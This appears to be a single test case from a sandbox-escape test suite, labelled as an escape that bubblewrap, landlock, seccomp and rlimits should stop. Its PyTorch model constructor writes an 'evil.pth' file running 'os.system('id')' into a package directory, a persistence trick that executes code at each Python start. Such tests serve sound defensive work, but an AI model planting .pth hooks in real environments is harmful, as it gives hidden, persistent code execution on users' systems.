# what: leaves a .pth file, whose lines Python runs at each start
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp rlimits

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        with open(VICTIM["package"] + "/evil.pth", "w") as file:
            file.write("import os; os.system('id')\n")
        raise RuntimeError("GOT each start")
